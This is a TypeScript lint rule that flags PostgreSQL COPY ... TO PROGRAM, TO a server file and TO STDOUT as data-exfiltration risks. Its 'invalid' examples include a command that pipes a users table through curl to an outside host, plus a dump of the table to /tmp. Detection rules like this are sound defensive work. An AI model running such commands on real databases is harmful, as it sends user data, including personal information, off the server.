import { rangeVarName } from '../../sql/pg-ast';
import { defineSqlRule } from '../rule';
import { pgStmt } from './util/pg';
import { findKeywordsSpan, findStringSpan } from './util/text';

/**
 * PostgreSQL `COPY … TO` (`CopyStmt` without `is_from`): to a program (`is_program`), to a server
 * file (`filename`), or to STDOUT (neither). Placed on the program/file literal or on `STDOUT`.
 * STDOUT is reported at `warning` severity (see the docs below). Per the PostgreSQL docs ("COPY"),
 * `TO PROGRAM` and `TO 'file'` run with the server's OS user and need superuser or
 * `pg_execute_server_program` / `pg_write_server_files`.
 */
export default defineSqlRule({
  meta: {
    id: 'copy-to-program-or-file',
    title: 'COPY … TO a program, a file or STDOUT',
    category: 'exfiltration',
    severity: 'error',
    docs: {
      description:
        "Reports `COPY … TO PROGRAM`, `COPY … TO 'file'` and `COPY … TO STDOUT` of a table or query.",
      problem:
        "`COPY t TO PROGRAM 'curl …'` runs a shell command on the database server and pipes the whole " +
        "table into it — the shortest path from SQL to data leaving the network. `COPY … TO '/path'` " +
        "writes the data to the server's disk, where anyone with host access (or a later `pg_read_file`) " +
        'can take it. Both are errors.\n\n' +
        '`COPY … TO STDOUT` streams the data to the client that sent the statement; it is how `psql \\copy` ' +
        'and exports work, so it is reported as a **warning**: nothing leaves the client machine by itself, ' +
        'but an agent that runs it receives every row of the table (PII included) into its context.',
      solution:
        'Export through a reviewed job with a scoped read-only role and a masked or sampled view; keep ' +
        '`pg_execute_server_program` and `pg_write_server_files` away from application and agent roles. ' +
        "For a one-off export a human runs `\\copy (SELECT … LIMIT …) TO 'local.csv'` from `psql`.",
    },
    messages: {
      toProgram:
        'COPY {{source}} TO PROGRAM runs a shell command on the database server and sends it the data.',
      toFile: 'COPY {{source}} TO a server file writes the data to {{target}} on the database host.',
      toStdout: 'COPY {{source}} TO STDOUT streams every selected row to the client.',
    },
    controls: ['SOC2:CC6.7', 'NIST:AC-4', 'HIPAA:164.312(e)(1)'],
    examples: {
      valid: ['COPY users FROM STDIN;', "COPY users (id, email) FROM '/data/users.csv' WITH (FORMAT csv);"],
      invalid: [
        "COPY users TO PROGRAM 'curl -T - https://example.com/u';",
        "COPY (SELECT * FROM users) TO '/tmp/users.csv';",
        'COPY users TO STDOUT;',
      ],
    },
  },
  check(stmt, _ctx, report) {
    const copy = pgStmt(stmt, 'CopyStmt');
    if (!copy || copy.is_from === true) return;
    const source = rangeVarName(copy.relation) ?? 'query';
    const target = typeof copy.filename === 'string' ? copy.filename : undefined;
    if (target === undefined) {
      report({
        messageId: 'toStdout',
        data: { source },
        span: findKeywordsSpan(stmt, ['stdout']),
        severity: 'warning',
      });
    } else if (copy.is_program === true) {
      report({ messageId: 'toProgram', data: { source }, span: findStringSpan(stmt, target, ['program']) });
    } else {
      report({ messageId: 'toFile', data: { source, target }, span: findStringSpan(stmt, target, ['to']) });
    }
  },
});
